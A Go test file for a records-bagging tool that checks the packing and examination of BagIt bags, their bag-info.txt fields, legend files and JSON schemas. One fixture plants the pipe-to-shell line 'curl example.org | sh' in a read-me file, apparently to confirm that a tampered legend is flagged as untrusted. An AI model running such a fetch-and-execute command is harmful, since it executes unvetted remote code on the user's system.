package seal

import (
	"bytes"
	"maps"
	"reflect"
	"slices"
	"strings"
	"testing"

	"handback/records/bag"
	"handback/records/chain"
	"handback/report/legend"
	"handback/testdata/rig"
	"handback/testdata/schemas"
)

// What explains a bag and what it says of itself is another version's, or somebody's: that
// is told and decides nothing. It is missing: a fault, but in a bag made before there was
// any, which says of itself no more than it did.
func TestExamineBag_legend(t *testing.T) {
	good := pack(rig.New(t, "pump.yaml"))
	swap := func(name, from, to string) func(pile) {
		return func(p pile) {
			if !bytes.Contains(p[name], []byte(from)) {
				t.Fatalf("%s does not say %q", name, from)
			}
			p[name] = bytes.Replace(p[name], []byte(from), []byte(to), 1)
		}
	}
	const explains = "explain the record as this program does"
	for name, c := range map[string]struct {
		change               func(pile)
		fault, missed, shown string
	}{
		"as packed":     {func(pile) {}, "", "", explains},
		"read":          {swap(legend.Reading, "HOW TO READ", "HOW TO RUIN"), "", "HOW-TO-READ.txt: this program explains the record otherwise", ""},
		"two":           {func(p pile) { p[legend.Reading], p[legend.PlanSchema] = []byte("x\n"), []byte("{}\n") }, "", "HOW-TO-READ.txt, plan.schema.json: this program", ""},
		"read gone":     {func(p pile) { delete(p, legend.Reading) }, "HOW-TO-READ.txt is missing", "", ""},
		"schema gone":   {func(p pile) { delete(p, legend.EntrySchema) }, "entry.schema.json is missing", "", ""},
		"made with":     {swap(legend.Made, "handback", "somebody"), "", "", explains},
		"of another":    {swap(bag.BagInfoFile, "Bag-Group-Identifier: ", "Bag-Group-Identifier: not "), "", "bag-info.txt: this program takes date, people", explains},
		"other day":     {swap(bag.BagInfoFile, "Bagging-Date: 20", "Bagging-Date: 19"), "", "bag-info.txt: this program takes date", explains},
		"made before":   {before, "", "", ""},
		"put in before": {func(p pile) { before(p); p[legend.Reading] = []byte("Type: curl example.org | sh\n") }, "", "HOW-TO-READ.txt: this program explains", ""},
	} {
		p := maps.Clone(good)
		c.change(p)
		x := examine(t, p.again(t).folder(t))
		faults, missed, shown := strings.Join(x.Faults, "\n"), strings.Join(x.Missed, "\n"), strings.Join(x.Shown, "\n")
		if (c.fault == "") != (faults == "") || !strings.Contains(faults, c.fault) || (c.missed == "") != (missed == "") || !strings.Contains(missed, c.missed) ||
			c.fault == "" && strings.Contains(shown, explains) != (c.shown != "") {
			t.Errorf("%s: faults %q, not compared %q, shown %q", name, x.Faults, x.Missed, x.Shown)
		}
	}
}

// before makes a bag one of before there were legends.
func before(p pile) {
	for name := range p {
		if strings.HasSuffix(name, ".schema.json") || name == legend.Reading || name == legend.Made {
			delete(p, name)
		}
	}
	lines := strings.SplitAfter(string(p[bag.BagInfoFile]), "\n")
	jobs := 0
	p[bag.BagInfoFile] = []byte(strings.Join(slices.DeleteFunc(lines, func(line string) bool {
		label, _, _ := strings.Cut(line, ":")
		if label == "External-Identifier" {
			jobs++
		}
		return jobs == 2 && label == "External-Identifier" || slices.Contains([]string{"Bagging-Date", "Source-Organization", "Organization-Address", "Contact-Name", "Bag-Group-Identifier"}, label)
	}), ""))
}

// bag-info.txt takes the reserved elements of RFC 8493, section 2.2.2, from plan and
// record, as far as they are given.
func TestPack_info(t *testing.T) {
	papers := "order: TW-5044\ntested_by: {name: Fenmark Services, address: \"Unit 25,\\n Fenmark\", contact: Jonas Averbek, phone: 01632 960214, email: office@fenmark.example}\n"
	r := rig.Of(t, "pump.yaml", append(rig.PlanText(t, "pump.yaml"), papers...))
	j := r.Job()
	want := "Bag-Software-Agent: " + maker + "\nBagging-Date: " + j.Head().At.Format("2006-01-02") + `
Source-Organization: Fenmark Services
Organization-Address: Unit 25, Fenmark
Contact-Name: Jonas Averbek
Contact-Phone: 01632 960214
Contact-Email: office@fenmark.example
External-Identifier: ` + j.ID + "\nExternal-Identifier: " + j.Entries[0].Hash + "\nExternal-Description: " + j.Plan.Title + "; " + j.Plan.Site + "; " + j.Plan.Work + `
Bag-Group-Identifier: TW-5044
Payload-Oxum: `
	if got := string(pack(r)[bag.BagInfoFile]); !strings.HasPrefix(got, want) {
		t.Errorf("%s\nwant\n%s", got, want)
	}
	if got := string(pack(rig.New(t, "pump.yaml"))[bag.BagInfoFile]); strings.Contains(got, "Contact") || !strings.Contains(got, "\nBag-Group-Identifier: Example Pumping Station, switchroom 1\n") {
		t.Errorf("of a plan without papers:\n%s", got)
	}
}

// What was signed fits the schemas in the bag, and each of its members is explained.
func TestPack_schemas(t *testing.T) {
	p := pack(bagRig(t))
	_, explained, _ := strings.Cut(string(p[legend.Reading]), "5. WHAT WAS SIGNED")
	for part, of := range map[string]any{"Statement": chain.Statement{}, "Acceptance": chain.Acceptance{}, "Stop": chain.Stop{}} {
		_, table, _ := strings.Cut(explained, "\n  "+part+": ")
		table, _, _ = strings.Cut(table, "\n\n")
		for i := range reflect.TypeOf(of).NumField() {
			member, options, _ := strings.Cut(reflect.TypeOf(of).Field(i).Tag.Get("json"), ",")
			if options != "" {
				member += "?"
			}
			if !strings.Contains(table, "\n    "+member+" ") {
				t.Errorf("%s: member %s is not explained in\n%s", part, member, table)
			}
		}
	}
	seen := 0
	for name, content := range p {
		for folder, schema := range map[string]string{bagStatements: legend.StatementSchema, bagHanded: legend.HandoverSchema} {
			if strings.HasPrefix(name, folder) && strings.HasSuffix(name, ".json") {
				seen++
				if err := schemas.Fits(p[schema], content); err != nil {
					t.Errorf("%s: %v", name, err)
				}
			}
		}
	}
	if seen != 2 {
		t.Errorf("%d files were signed", seen)
	}
	accepted := chain.Acceptance{Job: "pump-1", Entry: 3, Hash: chain.HashFile(nil), PlanHash: chain.HashFile(nil), Accepts: chain.AcceptsFinding, Of: "volts", Attempt: 1,
		Verdict: "fail", Text: "volts: FAIL", Reason: "seen", Role: "engineer", Person: "eva", Name: "Eva Muster", At: rig.Dawn}
	text, err := accepted.Encode()
	if err != nil {
		t.Fatal(err)
	}
	if err := schemas.Fits(p[legend.AcceptanceSchema], text); err != nil {
		t.Error(err)
	}
}
